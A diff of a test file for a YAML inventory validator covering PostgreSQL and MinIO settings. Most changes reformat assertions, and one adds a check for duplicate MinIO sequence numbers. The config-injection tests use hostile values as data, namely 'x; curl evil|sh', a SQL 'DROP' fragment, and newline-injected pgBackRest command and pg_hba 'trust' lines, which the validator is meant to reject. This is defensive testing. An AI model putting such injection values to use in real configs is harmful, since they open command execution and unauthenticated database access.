@@ -41,7 +41,9 @@ describe('schema errors point at the YAML that set the value', () => {
     const conf = errors.filter((x) => x.context.path === 'all.children.pg-test.vars.pg_conf');
     expect(conf).toHaveLength(1);
     expect(conf[0]?.context.line).toBe(11);
-    expect(conf[0]?.describe()).toMatch(/bad-enum\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_conf: invalid value "fast\.yml" \(affects 3 hosts\) \(expected one of oltp\.yml, olap\.yml, tiny\.yml, crit\.yml\)/);
+    expect(conf[0]?.describe()).toMatch(
+      /bad-enum\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_conf: invalid value "fast\.yml" \(affects 3 hosts\) \(expected one of oltp\.yml, olap\.yml, tiny\.yml, crit\.yml\)/,
+    );
   });
 
   it('has nothing else to say about that file', () => {
@@ -64,13 +66,17 @@ describe('schema errors point at the YAML that set the value', () => {
   vars: { admin_ip: 10.10.10.10 }
 `);
     expect(described(nested)).toEqual([
-      expect.stringMatching(/^inline\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_users\[1\]\.state: invalid value "drop" \(expected one of create, absent\)$/),
+      expect.stringMatching(
+        /^inline\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_users\[1\]\.state: invalid value "drop" \(expected one of create, absent\)$/,
+      ),
       expect.stringMatching(/^inline\.yml:12:\d+: .*pg_databases\[0\]\.extensions\[1\]: missing required field "name"/),
     ]);
   });
 
   it('describes a union by all its forms and says what was found', () => {
-    const { errors: union } = check('all:\n  hosts: { 10.10.10.10: { pg_max_conn: lots, pg_rto_plan: { norm: [30, 5] }, pg_port: "5432" } }\n  vars: { admin_ip: 10.10.10.10 }\n');
+    const { errors: union } = check(
+      'all:\n  hosts: { 10.10.10.10: { pg_max_conn: lots, pg_rto_plan: { norm: [30, 5] }, pg_port: "5432" } }\n  vars: { admin_ip: 10.10.10.10 }\n',
+    );
     expect(union.map((e) => [e.message, e.expected])).toEqual([
       ['invalid value "lots"', '"auto" or an integer >= 1'],
       ['has 2 items', 'a list of 10 items'],
@@ -79,7 +85,9 @@ describe('schema errors point at the YAML that set the value', () => {
   });
 
   it('says when a value is an Ansible template, which the engine does not expand', () => {
-    const { errors: tpl } = check(`all:\n  hosts: { 10.10.10.10: {} }\n  vars: { admin_ip: 10.10.10.10, repo_packages: "{{ repo_packages_default | list }}" }\n`);
+    const { errors: tpl } = check(
+      `all:\n  hosts: { 10.10.10.10: {} }\n  vars: { admin_ip: 10.10.10.10, repo_packages: "{{ repo_packages_default | list }}" }\n`,
+    );
     expect(tpl[0]?.message).toContain('Jinja template');
     expect(tpl[0]?.expected).toBe('a list');
   });
@@ -126,7 +134,9 @@ describe('semantic checks', () => {
   });
 
   it('reports a cluster without a primary', () => {
-    const { errors: none } = check('all:\n  hosts: { 10.10.10.11: { pg_seq: 1, pg_role: replica } }\n  vars: { admin_ip: 10.10.10.10, pg_cluster: pg-x }\n');
+    const { errors: none } = check(
+      'all:\n  hosts: { 10.10.10.11: { pg_seq: 1, pg_role: replica } }\n  vars: { admin_ip: 10.10.10.10, pg_cluster: pg-x }\n',
+    );
     expect(none.map((e) => e.message)).toEqual(['cluster pg-x has no primary among 10.10.10.11']);
   });
 
@@ -155,9 +165,22 @@ describe('semantic checks', () => {
     ]);
   });
 
+  it('compares MinIO sequence numbers within a minio_cluster only: a host without one is in no cluster', () => {
+    const { errors: seqs } = check(`all:
+  children:
+    minio: { hosts: { 10.10.10.10: { minio_seq: 1 }, 10.10.10.11: { minio_seq: 1 }, 10.10.10.12: { minio_seq: 1, minio_cluster: m }, 10.10.10.13: { minio_seq: 1, minio_cluster: m } } }
+  vars: { admin_ip: 10.10.10.10 }
+`);
+    expect(seqs.map((e) => `${e.context.host}: ${e.message}`)).toEqual([
+      '10.10.10.13: minio_seq 1 is used by both 10.10.10.12 and 10.10.10.13 in cluster m',
+    ]);
+  });
+
   it('wants admin_ip, reported once for all hosts', () => {
     const { errors: admin } = check('all:\n  hosts: { 10.10.10.10: {}, 10.10.10.11: {} }\n  vars: { region: default }\n');
-    expect(described(admin)).toEqual([expect.stringMatching(/^inline\.yml:3:\d+: host 10\.10\.10\.10: all\.vars: admin_ip is not set \(affects 2 hosts\)/)]);
+    expect(described(admin)).toEqual([
+      expect.stringMatching(/^inline\.yml:3:\d+: host 10\.10\.10\.10: all\.vars: admin_ip is not set \(affects 2 hosts\)/),
+    ]);
   });
 
   it('finds a user or database defined twice in a cluster', () => {
@@ -195,13 +218,17 @@ describe('unknown parameter names', () => {
   it('warns with the nearest known name, at the misspelled key', () => {
     expect(errors).toEqual([]);
     expect(described(warnings)).toEqual([
-      expect.stringMatching(/typo\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_verison: unknown parameter "pg_verison"; did you mean pg_version\?$/),
+      expect.stringMatching(
+        /typo\.yml:9:\d+: host 10\.10\.10\.10: all\.children\.pg-meta\.vars\.pg_verison: unknown parameter "pg_verison"; did you mean pg_version\?$/,
+      ),
       expect.stringMatching(/typo\.yml:13:\d+: .*all\.vars\.ndoe_tune: unknown parameter "ndoe_tune"; did you mean node_tune\?$/),
     ]);
   });
 
   it('warns about an unknown name in a covered module even with no close match, and never about ansible_* or data keys', () => {
-    const { warnings: w } = check('all:\n  hosts: { 10.10.10.10: { ansible_host: meta, app_conf: {}, docker_enabled: true, pg_something_new: 1 } }\n  vars: { admin_ip: 10.10.10.10 }\n');
+    const { warnings: w } = check(
+      'all:\n  hosts: { 10.10.10.10: { ansible_host: meta, app_conf: {}, docker_enabled: true, pg_something_new: 1 } }\n  vars: { admin_ip: 10.10.10.10 }\n',
+    );
     expect(w.map((e) => e.message)).toEqual(['unknown parameter "pg_something_new"']);
   });
 });
@@ -272,7 +299,12 @@ describe('values that would add a line to a config file', () => {
     const vars = 'all.children.pg-test.vars.';
     expect(errors.map((e) => [e.context.path?.replace(vars, ''), e.context.line, e.message, e.expected])).toEqual([
       ['pgbackrest_repo', 7, 'unexpected field "a b"', 'a mapping whose keys are repository names'],
-      ['pgbackrest_repo.local', 7, 'unexpected field "path\\n[global]\\nrepo1-host-cmd"', 'a mapping whose keys are pgBackRest option names of lowercase letters, digits, _ and - (repo1-<name> with _ as -)'],
+      [
+        'pgbackrest_repo.local',
+        7,
+        'unexpected field "path\\n[global]\\nrepo1-host-cmd"',
+        'a mapping whose keys are pgBackRest option names of lowercase letters, digits, _ and - (repo1-<name> with _ as -)',
+      ],
       ['pg_parameters', 8, 'unexpected field "work_mem = 1\\nlisten_addresses"', 'a mapping whose keys are PostgreSQL parameter names'],
       ['pg_users[0].parameters', 9, 'unexpected field "x\'; DROP"', 'a mapping whose keys are PostgreSQL parameter names'],
       ['node_aliases', 10, 'unexpected field "x; curl evil|sh"', 'a mapping whose keys are alias names (letters, digits and _ . : + @ % -)'],
@@ -304,7 +336,9 @@ describe('values that would add a line to a config file', () => {
     expect(at('pg_hba_rules[0].title')).toEqual([[11, 'a single line without control characters']]);
     expect(at('pg_hba_rules[1].user')).toEqual([[12, field]]);
     expect(at('pg_hba_rules[2].db')).toEqual([[13, field]]);
-    expect(at('pg_hba_rules[3].addr')).toEqual([[14, 'one of local, localhost, admin, infra, cluster, intra, intranet, world, all or an IPv4 address[/mask]']]);
+    expect(at('pg_hba_rules[3].addr')).toEqual([
+      [14, 'one of local, localhost, admin, infra, cluster, intra, intranet, world, all or an IPv4 address[/mask]'],
+    ]);
     expect(at('pg_hba_rules[4].rules[0]')).toEqual([[15, 'a single line without control characters']]);
   });
 
@@ -316,7 +350,9 @@ describe('values that would add a line to a config file', () => {
 
   it('names the file, the host and the YAML path, and shows the newline escaped', () => {
     const e = errors.find((x) => x.context.path?.endsWith('pg_hba_rules[0].title'));
-    expect(e?.describe()).toMatch(/hostile\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_hba_rules\[0\]\.title: invalid value "allow app\\nhost all all 0\.0\.0\.0\/0 trust"/);
+    expect(e?.describe()).toMatch(
+      /hostile\.yml:11:\d+: host 10\.10\.10\.11: all\.children\.pg-test\.vars\.pg_hba_rules\[0\]\.title: invalid value "allow app\\nhost all all 0\.0\.0\.0\/0 trust"/,
+    );
     expect(errors).toHaveLength(12);
   });
 });
